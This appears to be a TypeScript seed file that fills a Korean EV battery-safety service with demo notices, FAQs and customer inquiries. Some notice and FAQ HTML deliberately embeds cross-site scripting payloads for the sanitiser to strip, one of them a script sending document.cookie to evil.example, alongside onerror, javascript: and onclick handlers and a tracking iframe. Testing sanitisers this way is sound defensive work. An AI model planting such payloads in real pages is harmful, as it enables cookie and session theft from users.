import { INQUIRY_STATUS, REFUND_RULE } from "@evsafe/contract";
import type { FaqCategory } from "../schema/codes";
import { faqs, inquiries, notices } from "../schema/customer";
import type { SeedContext } from "./index";

const DAY = 86_400_000;
const HOUR = 3_600_000;

/**
 * Notices as an operator would author them in the admin editor: HTML, sometimes with pasted snippets the
 * sanitiser must strip on read (a script, an onerror handler, a javascript: link, an http image).
 */
export const DEMO_NOTICES = [
  {
    ntcDivCcd: "01",
    pinned: true,
    daysAgo: 2,
    title: "[필독] 겨울철 전기차 배터리 안전 가이드",
    contents: `<h3>기온이 내려가면 배터리도 관리가 필요합니다</h3>
<p>영하의 날씨에는 배터리 화학 반응이 느려져 <strong>주행 가능 거리가 20~30% 줄어들 수 있습니다.</strong> 아래 수칙을 지켜 안전하게 운행해 주세요.</p>
<ol>
<li>일상 충전 한도는 배터리 종류에 맞추세요. 삼원계 배터리는 <strong>80~90%</strong>로 설정하고, 리튬인산철 배터리는 100%까지 충전해도 괜찮습니다. 지하 주차장에는 <strong>90% 이하</strong>로 충전된 상태로 들어가세요.</li>
<li>출발 30분 전 <em>예약 공조(프리컨디셔닝)</em>로 배터리를 데워 주세요.</li>
<li>급속 충전 직후 배터리 온도가 높을 때는 바로 실내 주차장 깊숙이 주차하지 마세요.</li>
<li>충전 중 타는 냄새, 연기, '딱딱' 소리가 나면 즉시 충전을 멈추고 <strong>119</strong>에 신고하세요.</li>
</ol>
<p><img src="https://static.evsafe.example/notice/winter-guide.png" alt="겨울철 배터리 관리 수칙"></p>
<p>자세한 내용은 <a href="https://www.evsafe.example/guide/winter">겨울철 안전 가이드</a>에서 확인하실 수 있습니다.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>`,
  },
  {
    ntcDivCcd: "03",
    pinned: true,
    daysAgo: 5,
    title: "OBD 단말기 펌웨어 v2.4.1 업데이트 안내",
    contents: `<p>안녕하세요, 배터리 안전 알림 서비스입니다.</p>
<p>셀 전압 편차 감지 정확도를 높인 <strong>OBD 단말기 펌웨어 v2.4.1</strong>이 배포됩니다.</p>
<table><thead><tr><th>항목</th><th>내용</th></tr></thead>
<tbody><tr><td>배포 일정</td><td>순차 배포 (약 2주)</td></tr>
<tr><td>업데이트 방식</td><td>시동 후 자동 무선 업데이트 (약 3분)</td></tr>
<tr><td>주요 변경</td><td>셀 전압 샘플링 주기 단축, 절연 저항 측정 안정화, 절전 모드 개선</td></tr></tbody></table>
<p>업데이트 중에는 시동을 끄지 말아 주세요. 업데이트 후 데이터 수집이 재개되기까지 최대 10분이 걸릴 수 있습니다.</p>
<p><img src="x" onerror="alert('xss')"><a href="javascript:alert(document.cookie)">업데이트 내역 자세히 보기</a></p>`,
  },
  {
    ntcDivCcd: "04",
    pinned: false,
    daysAgo: 9,
    title: "서비스 정기 점검 안내 (11월 20일 02:00~05:00)",
    contents: `<p>보다 안정적인 서비스를 위해 아래 일정으로 정기 점검을 진행합니다.</p>
<ul><li>일시: 11월 20일(금) 02:00 ~ 05:00</li><li>영향: 앱 접속, 진단 결과 조회, 알림 발송 일시 중단</li></ul>
<p>점검 중에도 <strong>단말기의 주행·충전 데이터는 정상 수집</strong>되며, 점검 후 누락 없이 반영됩니다.</p>
<p onclick="steal()" style="color:red">이용에 불편을 드려 죄송합니다.</p>`,
  },
  {
    ntcDivCcd: "01",
    pinned: false,
    daysAgo: 40,
    title: "전기차 배터리 안전 알림 서비스 정식 출시",
    contents: `<h3>내 차 배터리, 이제 매일 안심하세요</h3>
<p>OBD 단말기로 수집한 셀 전압, 모듈 온도, 절연 저항 데이터를 분석해 <strong>배터리 이상 징후를 미리 알려 드리는</strong> 서비스가 정식 출시되었습니다.</p>
<ul><li>매일 배터리 안전 진단과 안전 점수</li><li>주행·충전 습관 통계</li><li>이상 징후 발생 시 즉시 알림</li></ul>
<p>문의는 앱의 <a href="https://www.evsafe.example/board/qna">1:1 문의</a>를 이용해 주세요.</p>
<p><img src="http://insecure.example/banner.png" alt="출시 배너"></p>`,
  },
  {
    ntcDivCcd: "02",
    pinned: false,
    daysAgo: 20,
    title: "출시 기념 무료 이용 기간 6개월 연장 이벤트",
    contents: `<p>서비스 출시를 기념해 이벤트 기간 내 가입하신 모든 분께 <strong>무료 이용 기간을 6개월 연장</strong>해 드립니다.</p>
<p>연장된 만료일은 <em>메뉴 &gt; 내 서비스</em>에서 확인하실 수 있습니다.</p>
<iframe src="https://ads.example/track"></iframe>`,
  },
  {
    ntcDivCcd: "03",
    pinned: false,
    daysAgo: 3,
    title: "앱 v1.3.0 업데이트: 알림 깜빡임 주기 설정 추가",
    contents: `<p>메인 화면의 안전 상태 표시등 깜빡임 주기를 5초, 10초, 30초, 60초, 계속 켜기 중에서 선택할 수 있습니다.</p>
<p>스토어에서 최신 버전으로 업데이트해 주세요.</p>`,
  },
  {
    ntcDivCcd: "01",
    pinned: false,
    daysAgo: 14,
    title: "개인정보 처리방침 개정 안내",
    contents: `<p>위치 기반 서비스 제공을 위해 개인정보 처리방침이 일부 개정됩니다.</p>
<blockquote>시행일: 12월 1일<br>주요 변경: 차량 위치 정보의 보관 기간 명시 (수집일로부터 6개월)</blockquote>`,
  },
  {
    ntcDivCcd: "04",
    pinned: false,
    daysAgo: 30,
    title: "결제 시스템 점검 완료 안내",
    contents: `<p>결제 대행사 시스템 점검이 완료되어 신용카드, 가상계좌, 실시간 계좌이체 결제가 정상 이용 가능합니다.</p>`,
  },
] as const;

export const DEMO_FAQS: { faqDivCcd: FaqCategory; question: string; answer: string }[] = [
  {
    faqDivCcd: "01",
    question: "서비스는 어떻게 가입하나요?",
    answer:
      "<p>회원가입 후 <strong>메뉴 &gt; 서비스 가입</strong>에서 차량 정보, 배송지, 결제 수단을 순서대로 입력하면 됩니다. 결제가 끝나면 OBD 단말기가 배송됩니다.</p>",
  },
  {
    faqDivCcd: "01",
    question: "지원되는 차종은 무엇인가요?",
    answer:
      "<p>현대 아이오닉 5·코나 일렉트릭, 기아 EV6·EV3·니로 EV, 테슬라 모델 Y 등을 지원합니다. 가입 화면에서 차량 번호로 지원 여부를 바로 확인할 수 있습니다.</p>",
  },
  {
    faqDivCcd: "01",
    question: "가족 차량도 한 계정으로 등록할 수 있나요?",
    answer: "<p>현재는 계정당 차량 1대만 등록할 수 있습니다. 다른 차량은 별도 계정으로 가입해 주세요.</p>",
  },
  {
    faqDivCcd: "02",
    question: "OBD 단말기는 어디에 설치하나요?",
    answer: "<p>운전석 아래 대시보드의 OBD-II 포트에 꽂으면 됩니다. 차종별 포트 위치는 단말기 상자 안의 설치 안내서를 참고해 주세요.</p>",
  },
  {
    faqDivCcd: "02",
    question: "단말기를 꽂아 두면 차량 배터리(12V)가 방전되지 않나요?",
    answer:
      "<p>단말기는 시동이 꺼지면 절전 모드로 전환되어 대기 전력이 매우 적습니다. 2주 이상 운행하지 않을 때는 단말기를 분리해 두시길 권장합니다.</p>",
  },
  {
    faqDivCcd: "02",
    question: "단말기 연결 상태가 '데이터 수집 전'으로 나와요.",
    answer:
      '<p>설치 후 첫 주행을 마치면 보통 30분 안에 데이터가 들어옵니다. 하루가 지나도 그대로라면 단말기를 다시 꽂은 뒤 <a href="https://www.evsafe.example/board/qna">1:1 문의</a>를 남겨 주세요.</p>',
  },
  {
    faqDivCcd: "03",
    question: "배터리 안전 점수는 어떻게 계산되나요?",
    answer:
      "<p>셀 전압 편차, 모듈 온도 편차, 절연 저항, 배터리 건강도(SOH)를 매일 분석해 100점 만점으로 환산합니다. 항목별 기준은 진단 결과 화면에서 확인할 수 있습니다.</p>",
  },
  {
    faqDivCcd: "03",
    question: "'주의' 알림을 받았어요. 바로 운행을 멈춰야 하나요?",
    answer:
      "<p><strong>주의</strong>는 관찰이 필요한 단계로 운행은 가능합니다. 다만 <strong>경고·심각</strong> 알림이나 연기, 타는 냄새가 있으면 즉시 안전한 곳에 정차하고 119에 신고해 주세요.</p>",
  },
  {
    faqDivCcd: "03",
    question: "진단 결과는 얼마나 자주 갱신되나요?",
    answer: "<p>하루 한 번, 전날 수집된 데이터로 새벽에 갱신됩니다. 알림은 이상 징후가 감지되는 즉시 발송됩니다.</p>",
  },
  { faqDivCcd: "04", question: "결제 수단은 무엇을 지원하나요?", answer: "<p>신용카드, 가상계좌, 실시간 계좌이체를 지원합니다.</p>" },
  {
    faqDivCcd: "04",
    question: "서비스를 해지하면 환불되나요?",
    // The refund rule, word for word as the app's cancellation dialog shows it (contract REFUND_RULE).
    answer: `<p>${REFUND_RULE.cancel}</p><p>예: 12개월 이용권 118,800원, 4번째 달에 해지하면 남은 8개월분 79,200원을 환불해 드려요.</p><p>${REFUND_RULE.device}</p><p>${REFUND_RULE.timing}</p><p>${REFUND_RULE.beforeShipping}</p><p>해지 신청 전에 내 서비스 &gt; 서비스 해지에서 환불 예정 금액을 확인할 수 있어요.</p>`,
  },
  {
    faqDivCcd: "04",
    question: "해지 신청을 취소할 수 있나요?",
    answer:
      "<p>서비스가 끝나기 전(해지신청 상태)이라면 내 서비스에서 <em>해지 신청 취소</em>를 누르면 바로 이용 중으로 돌아가요. 이용 기간도 해지 신청 전과 같아요.</p>",
  },
  {
    faqDivCcd: "05",
    question: "아이디나 비밀번호를 잊어버렸어요.",
    answer: "<p>로그인 화면의 <em>아이디 찾기</em> 또는 <em>비밀번호 찾기</em>에서 본인 인증 후 확인할 수 있습니다.</p>",
  },
  {
    faqDivCcd: "05",
    question: "카카오·네이버 계정을 연결할 수 있나요?",
    answer: "<p>메뉴 &gt; 내 정보 &gt; 간편 로그인 관리에서 연결하거나 해제할 수 있습니다.</p>",
  },
  {
    faqDivCcd: "05",
    question: "회원 탈퇴는 어떻게 하나요?",
    answer:
      "<p>메뉴 &gt; 내 정보 하단의 <em>회원 탈퇴</em>에서 진행할 수 있습니다. 이용 중인 서비스가 있으면 먼저 해지해야 합니다.</p><script>alert(1)</script>",
  },
];

/** Inquiries of the demo accounts in every state (01 awaiting, 06 processing, 02 answered). */
export const DEMO_INQUIRIES = [
  {
    loginId: "demo",
    iqrDivCcd: "02",
    status: INQUIRY_STATUS.AWAITING,
    daysAgo: 1,
    title: "단말기 LED가 주황색으로 깜빡여요",
    contents:
      "어제 저녁부터 OBD 단말기 LED가 초록색이 아니라 주황색으로 깜빡입니다. 앱에서는 정상 수집 중으로 나오는데 괜찮은 건가요? 설치 사진 첨부합니다.",
    answer: null,
  },
  {
    loginId: "demo",
    iqrDivCcd: "04",
    status: INQUIRY_STATUS.PROCESSING,
    daysAgo: 3,
    title: "셀 전압 편차 '주의'가 떴다가 사라졌어요",
    contents:
      "지난주 급속 충전 후에 셀 전압 편차 주의 알림이 왔는데 다음 날 다시 안전으로 바뀌었습니다. 서비스 센터에 가 봐야 하는지 궁금합니다.",
    answer: null,
  },
  {
    loginId: "demo",
    iqrDivCcd: "03",
    status: INQUIRY_STATUS.ANSWERED,
    daysAgo: 12,
    answeredHoursLater: 20,
    title: "결제 영수증은 어디서 받나요?",
    contents: "회사 경비 처리를 위해 12개월 이용권 결제 영수증이 필요합니다. 앱에서 받을 수 있는 방법이 있을까요?",
    answer:
      "안녕하세요, 고객님. 결제 영수증은 내 서비스 > 결제 내역에서 결제 건을 누르면 볼 수 있습니다. 앱에서는 영수증 저장으로 휴대폰에 파일로 저장되고, 브라우저에서는 인쇄 화면에서 PDF로 저장하실 수 있습니다. 계좌이체나 가상계좌로 결제하셨다면 같은 화면에서 현금영수증(지출증빙, 사업자등록번호)을 신청하실 수 있습니다. 감사합니다.",
  },
  {
    loginId: "demowarn",
    iqrDivCcd: "04",
    status: INQUIRY_STATUS.ANSWERED,
    daysAgo: 6,
    answeredHoursLater: 5,
    title: "안전 점수가 계속 떨어지고 있어요",
    contents: "최근 한 달 사이 안전 점수가 82점에서 64점까지 떨어졌습니다. 모듈 온도 편차가 경고로 나오는데 어떻게 해야 하나요?",
    answer:
      "안녕하세요, 고객님. 확인 결과 모듈 간 온도 편차가 기준(3°C)을 넘는 날이 늘고 있습니다. 냉각 계통 점검이 필요할 수 있으니 가까운 제조사 서비스센터에서 고전압 배터리 점검을 받아 보시길 권장드립니다. 점검 전까지는 급속 충전을 줄이고 충전량(SoC) 80% 이하로 충전해 주세요. 이상 징후가 심해지면 즉시 알림으로 안내드리겠습니다.",
  },
  {
    loginId: "demowarn",
    iqrDivCcd: "01",
    status: INQUIRY_STATUS.AWAITING,
    daysAgo: 0.2,
    title: "알림 소리를 바꿀 수 있나요?",
    contents: "경고 알림이 올 때 일반 알림과 같은 소리라서 구분이 잘 안 됩니다. 알림음을 따로 설정할 수 있는지 궁금합니다.",
    answer: null,
  },
  {
    loginId: "demo01",
    iqrDivCcd: "02",
    status: INQUIRY_STATUS.PROCESSING,
    daysAgo: 2,
    title: "단말기 배송이 언제 오나요?",
    contents: "결제한 지 5일이 지났는데 아직 배송중으로 나옵니다. 운송장 번호로 조회가 안 되는데 확인 부탁드립니다.",
    answer: null,
  },
  {
    loginId: "demo03",
    iqrDivCcd: "03",
    status: INQUIRY_STATUS.ANSWERED,
    daysAgo: 10,
    answeredHoursLater: 26,
    title: "해지 신청 후 환불 금액 문의",
    contents: "해지 신청을 했는데 환불 금액이 얼마인지, 단말기는 어떻게 반납하는지 알려 주세요.",
    answer:
      "안녕하세요, 고객님. 환불 예정 금액은 내 서비스 > 서비스 해지에서 확인하실 수 있습니다(이용 중인 달 다음부터 남은 개월 수만큼). 동봉된 반납 봉투에 단말기를 넣어 서비스 종료일부터 14일 안에 가까운 편의점 택배로 보내 주시면 됩니다(착불). 반납 확인 후 영업일 기준 3~5일 안에 결제 수단으로 환불됩니다.",
  },
] as const;

export async function seedCustomer(ctx: SeedContext): Promise<void> {
  const now = ctx.now().getTime();
  await ctx.db.insert(notices).values(
    DEMO_NOTICES.map((n, i) => ({
      ntcDivCcd: n.ntcDivCcd,
      title: n.title,
      contents: n.contents,
      pinned: n.pinned,
      viewCount: 40 + ((i * 137) % 900),
      postedAt: new Date(now - n.daysAgo * DAY - (i + 1) * HOUR),
    })),
  );
  await ctx.db.insert(faqs).values(DEMO_FAQS.map((f, i) => ({ ...f, sortOrder: i })));
  await ctx.db.insert(inquiries).values(
    DEMO_INQUIRIES.map((q) => {
      const createdAt = new Date(now - q.daysAgo * DAY);
      const answered = "answeredHoursLater" in q;
      return {
        userNo: ctx.account(q.loginId).userNo,
        iqrDivCcd: q.iqrDivCcd,
        title: q.title,
        contents: q.contents,
        iqrSttsDivCcd: q.status,
        answer: q.answer,
        answeredAt: answered ? new Date(createdAt.getTime() + q.answeredHoursLater * HOUR) : null,
        createdAt,
      };
    }),
  );
}
